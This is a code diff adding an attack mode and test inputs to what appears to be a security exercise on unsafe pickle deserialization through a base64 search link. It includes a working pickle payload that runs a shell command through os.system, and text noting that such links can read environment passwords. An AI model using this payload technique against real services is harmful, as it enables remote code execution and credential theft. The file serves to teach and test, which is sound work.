@@ -92,3 +92,21 @@ def exploit(code, vary):
                 damage = "Reading the link called a function that it names. Such a link can read the passwords in the environment just as well."
                 return {"sent": f"/jobs?s={link}, which is base64 of the pickle {attempt!r}", "got": f"the file {file} on the server", "damage": damage}
     return False
+
+
+# Attack mode: the learner writes the input.
+def attack(code, input, vary):
+    link = base64.urlsafe_b64encode(input["content"].encode("latin-1", "replace")).decode()
+    try:
+        answer = f"Jobs: {', '.join(code.open_shared_search(link, Index()))}"
+    except Exception as error:
+        answer = f"{type(error).__name__}: {error}"
+    is_done = os.path.exists("taken")
+    return {"isDone": is_done, "shown": f"The file taken is on the server.\n{answer}" if is_done else answer}
+
+
+ATTACKS = [
+    {"input": {"content": "cos\nsystem\n(S'echo > taken'\ntR."}, "isDone": True},
+    {"input": {"content": '{"text":"nurse"}'}, "isDone": False},
+    {"input": {"content": "touch taken"}, "isDone": False},
+]
